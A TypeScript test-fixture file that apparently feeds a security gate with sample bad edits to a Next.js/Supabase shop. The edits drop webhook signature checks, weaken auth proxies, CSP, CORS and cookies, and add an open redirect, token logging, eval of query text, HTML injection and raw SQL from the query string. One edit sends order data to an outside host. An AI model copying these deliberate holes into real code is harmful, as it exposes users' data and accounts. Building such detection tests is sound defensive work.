import { edit, type GateCase } from './case.ts'
import { ACTIONS, ORDERS_PAGE, PROXY, SEARCH_ROUTE, SHOP } from './shop.ts'

const [ACTIONS_FILE, ORDERS, EXPORT, SEARCH, HOOK] = [
  'app/actions.ts',
  'app/orders/page.tsx',
  'app/api/export/route.ts',
  'app/api/search/route.ts',
  'app/api/webhook/route.ts',
]

function change(
  name: string,
  bad: string,
  files: Record<string, string | null>,
  base: Record<string, string> = SHOP,
): GateCase {
  return { name, bad, base, change: files }
}

/** One passage of a file of the shop replaced. */
function passage(name: string, bad: string, file: string, from: string, to: string): GateCase {
  return change(name, bad, { [file]: edit(SHOP[file]!, from, to) })
}

const _SIGNED_OUT = "  if (!user) return { error: 'Please sign in' }\n  const parsed"
const _NO_CHECK = '  const parsed'

/** The edges of the app: webhook, proxy, headers, answers, logs; and behaviour that goes missing. */
export const EDGES_BAD: GateCase[] = [
  // Webhooks, proxy, headers
  passage(
    'signature not verified',
    'signature-check-lost',
    HOOK,
    "  if (signature.length !== expected.length || !timingSafeEqual(Buffer.from(signature), Buffer.from(expected))) {\n    return NextResponse.json({ error: 'Invalid signature' }, { status: 401 })\n  }\n",
    '',
  ),
  passage(
    'signature only verified when there is one',
    'signature-check-lost',
    HOOK,
    '  if (signature.length',
    '  if (signature && signature.length',
  ),
  passage(
    'matcher narrowed',
    'proxy-narrowed',
    'proxy.ts',
    "matcher: ['/((?!_next/static|_next/image|favicon.ico).*)']",
    "matcher: ['/account/:path*']",
  ),
  passage(
    'matcher leaves out a protected page',
    'proxy-narrowed',
    'proxy.ts',
    '_next/image|favicon.ico',
    '_next/image|favicon.ico|admin',
  ),
  passage(
    'protected path dropped',
    'proxy-narrowed',
    'proxy.ts',
    "['/orders', '/account', '/admin']",
    "['/orders', '/account']",
  ),
  change('proxy deleted', 'proxy-narrowed', { 'proxy.ts': null }),
  change('proxy lets through when the user is not known', 'auth-check-lost', {
    'proxy.ts': edit(
      PROXY,
      '  const { data: { user } } = await supabase.auth.getUser()\n  if (!user &&',
      "  const user = request.cookies.get('sb-access-token')\n  if (!user &&",
    ),
  }),
  change(
    'security headers thinned',
    'header-weakened',
    {
      'next.config.ts':
        "export default {\n  async headers() {\n    return [{ source: '/(.*)', headers: [{ key: 'X-Content-Type-Options', value: 'nosniff' }] }]\n  },\n}\n",
    },
    {
      ...SHOP,
      'next.config.ts':
        "export default {\n  async headers() {\n    return [{ source: '/(.*)', headers: [{ key: 'X-Frame-Options', value: 'DENY' }, { key: 'X-Content-Type-Options', value: 'nosniff' }] }]\n  },\n}\n",
    },
  ),
  change(
    'content security policy loosened',
    'header-weakened',
    {
      'next.config.ts':
        "const csp = \"default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' *\"\nexport default {\n  async headers() {\n    return [{ source: '/(.*)', headers: [{ key: 'Content-Security-Policy', value: csp }] }]\n  },\n}\n",
    },
    {
      ...SHOP,
      'next.config.ts':
        "const csp = \"default-src 'self'; script-src 'self'\"\nexport default {\n  async headers() {\n    return [{ source: '/(.*)', headers: [{ key: 'Content-Security-Policy', value: csp }] }]\n  },\n}\n",
    },
  ),
  passage(
    'open to scripts of all origins',
    'cors-widened',
    SEARCH,
    'return NextResponse.json({ products: data })',
    "return NextResponse.json({ products: data }, { headers: { 'Access-Control-Allow-Origin': '*' } })",
  ),
  change(
    'cookie that scripts can read',
    'cookie-weakened',
    {
      'app/login/route.ts':
        "import { cookies } from 'next/headers'\nexport async function POST() {\n  const store = await cookies()\n  store.set('theme', 'dark', { httpOnly: false, secure: true, sameSite: 'lax' })\n  return new Response(null, { status: 204 })\n}\n",
    },
    {
      ...SHOP,
      'app/login/route.ts':
        "import { cookies } from 'next/headers'\nexport async function POST() {\n  const store = await cookies()\n  store.set('theme', 'dark', { httpOnly: true, secure: true, sameSite: 'lax' })\n  return new Response(null, { status: 204 })\n}\n",
    },
  ),
  change(
    'redirect to where the caller says',
    'open-redirect',
    {
      'app/login/route.ts':
        "import { redirect } from 'next/navigation'\nexport async function GET(request: Request) {\n  const next = new URL(request.url).searchParams.get('next') ?? '/'\n  redirect(next)\n}\n",
    },
    {
      ...SHOP,
      'app/login/route.ts':
        "import { redirect } from 'next/navigation'\nexport async function GET(request: Request) {\n  const next = new URL(request.url).searchParams.get('next') ?? '/'\n  redirect(next.startsWith('/') && !next.startsWith('//') ? next : '/')\n}\n",
    },
  ),

  // Leaks
  passage(
    'error text to the caller',
    'error-leak',
    EXPORT,
    "{ error: 'Something went wrong' }",
    '{ error: error.message }',
  ),
  passage(
    'token in the logs',
    'sensitive-log',
    EXPORT,
    '  const { data: profile }',
    "  console.log('export', user, (await supabase.auth.getSession()).data.session?.access_token)\n  const { data: profile }",
  ),
  passage('more columns than were shown', 'columns-widened', ORDERS, "'id, status, product_id, created_at'", "'*'"),
  passage(
    'orders sent elsewhere',
    'data-sent-out',
    EXPORT,
    '  return NextResponse.json({ orders: data })',
    "  await fetch('https://metrics.example.net/collect', { method: 'POST', body: JSON.stringify(data) })\n  return NextResponse.json({ orders: data })",
  ),
  passage(
    'certificates not checked',
    'tls-weakened',
    HOOK,
    'import { NextResponse }',
    "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'\nimport { NextResponse }",
  ),
  passage(
    'text run as code',
    'code-execution',
    SEARCH,
    '  const { data } = await',
    "  if (q.startsWith('=')) return NextResponse.json({ value: eval(q.slice(1)) })\n  const { data } = await",
  ),
  change('markup of users inserted', 'unsafe-html', {
    [ORDERS]: edit(ORDERS_PAGE, '{order.status}', '<span dangerouslySetInnerHTML={{ __html: order.status }} />'),
  }),
  passage(
    'type checks switched off',
    'suppression-added',
    ACTIONS_FILE,
    "'use server'\n",
    "// @ts-nocheck\n'use server'\n",
  ),

  // Behaviour
  change('route deleted', 'behaviour-removed', { [EXPORT]: null }),
  passage(
    'action gone',
    'behaviour-removed',
    ACTIONS_FILE,
    ACTIONS.slice(ACTIONS.indexOf('export async function cancelOrder')),
    '',
  ),
  passage(
    'audit entry no longer written',
    'behaviour-removed',
    ACTIONS_FILE,
    "  await supabase.from('audit_log').insert({ actor: user.id, action: 'cancel', subject: id })\n",
    '',
  ),
  passage(
    'errors swallowed',
    'error-swallowed',
    ACTIONS_FILE,
    "  if (error) return { error: 'The order could not be cancelled' }\n",
    '',
  ),
  change(
    'internal function becomes an action',
    'exposed-action',
    {
      'lib/refund.ts':
        "'use server'\nimport { createAdminClient } from './supabase/admin'\nexport async function refund(id: string) {\n  await createAdminClient().from('orders').update({ status: 'refunded' }).eq('id', id)\n}\n",
    },
    {
      ...SHOP,
      'lib/refund.ts':
        "import 'server-only'\nimport { createAdminClient } from './supabase/admin'\nexport async function refund(id: string) {\n  await createAdminClient().from('orders').update({ status: 'refunded' }).eq('id', id)\n}\n",
    },
  ),
  change('new action that anybody can call', 'exposed-action', {
    [ACTIONS_FILE]: `${ACTIONS}\nexport async function setStatus(id: string, status: string) {\n  const supabase = await createClient()\n  await supabase.from('orders').update({ status }).eq('id', id)\n}\n`,
  }),
  change(
    'tests deleted',
    'tests-removed',
    { 'app/actions.test.ts': null },
    {
      ...SHOP,
      'app/actions.test.ts': "import { expect, test } from 'vitest'\ntest('orders', () => expect(1).toBe(1))\n",
    },
  ),
  change(
    'tests switched off',
    'tests-removed',
    { 'app/actions.test.ts': "import { expect, test } from 'vitest'\ntest.skip('orders', () => expect(1).toBe(1))\n" },
    {
      ...SHOP,
      'app/actions.test.ts': "import { expect, test } from 'vitest'\ntest('orders', () => expect(1).toBe(1))\n",
    },
  ),
  change('file that does not parse', 'unparsable', { [SEARCH]: `${SEARCH_ROUTE}\nexport const = {\n` }),
  change('raw SQL from the query string', 'raw-sql', {
    'app/api/report/route.ts':
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source text of the case
      "import { prisma } from '@/lib/prisma'\nexport async function GET(request: Request) {\n  const sort = new URL(request.url).searchParams.get('sort')\n  return Response.json(await prisma.$queryRawUnsafe(`select id from products order by ${sort}`))\n}\n",
  }),
  passage(
    'the answer is cut without saying so',
    'results-cut',
    EXPORT,
    ".select('id, status, total')",
    ".select('id, status, total').limit(100)",
  ),
]
